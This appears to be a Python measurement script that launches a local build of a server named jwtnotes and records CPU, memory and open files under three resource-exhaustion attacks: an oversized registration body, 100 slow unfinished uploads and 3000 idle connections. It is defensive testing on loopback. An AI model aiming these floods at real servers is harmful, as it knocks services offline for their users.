#!/usr/bin/env python3
# scripts/attack.py BINARY PORT: three of the hostile-input attacks of the
# hostile-input issue against a build of jwtnotes on 127.0.0.1, with the
# server CPU, RSS and open files it costs (Linux /proc). A measurement, not
# a test: it waits with sleep for the server to settle. Loopback only.
import json, os, socket, subprocess, sys, time, urllib.request
binary, port = sys.argv[1], int(sys.argv[2])
data = f"/tmp/jwtnotes-attack-{port}"
subprocess.run(["rm", "-rf", data])
srv = subprocess.Popen([binary, "-addr", f"127.0.0.1:{port}", "-data", data, "-ip-limit", "0"], stderr=subprocess.DEVNULL)
time.sleep(1.5)
def cpu():
    f = open(f"/proc/{srv.pid}/stat").read().split()
    return (int(f[13]) + int(f[14])) / os.sysconf("SC_CLK_TCK")
def rss():
    for l in open(f"/proc/{srv.pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1]) // 1024
def fds(): return len(os.listdir(f"/proc/{srv.pid}/fd"))
base = f"http://127.0.0.1:{port}"
# 1: an expensive register body (136 KB)
words = "ab." * 22000
body = json.dumps({"username": words, "email": words + "@x.io", "password": "ab" * 22000, "password2": "x"}).encode()
c0, t0 = cpu(), time.time()
try:
    urllib.request.urlopen(urllib.request.Request(base + "/api/register/", body, {"Content-Type": "application/json"}), timeout=120)
except Exception as e: pass
print(f"1 register {len(body)//1024} KB body: {cpu()-c0:.2f} s CPU, {time.time()-t0:.2f} s")
# 4: 100 connections each sending all but the last bytes of a 6 MiB multipart body
r0 = rss()
conns = []
chunk = b"x" * 65536
for i in range(100):
    s = socket.create_connection(("127.0.0.1", port))
    b = b"--B\r\nContent-Disposition: form-data; name=\"cover_photo\"; filename=\"a.png\"\r\n\r\n"
    s.sendall(b"POST /api/register/ HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: %d\r\n\r\n" % (6 << 20) + b)
    conns.append(s)
sent = 0
for _ in range(90):
    for s in conns:
        try: s.sendall(chunk)
        except Exception: pass
time.sleep(2)
print(f"4 100 slow 6 MiB uploads: RSS {r0} -> {rss()} MB")
for s in conns: s.close()
time.sleep(1)
# 5: 3000 idle keep-alive connections from one address
idle = []
for i in range(3000):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        idle.append(s)
    except Exception: break
time.sleep(1)
alive = 0
for s in idle:
    s.settimeout(0.05)
    try:
        d = s.recv(4096)
        if d: alive += 1
    except Exception: pass
print(f"5 3000 keep-alive connections from one address: {fds()} fds open in the server, healthz answered on {alive}")
for s in idle: s.close()
srv.terminate(); srv.wait()
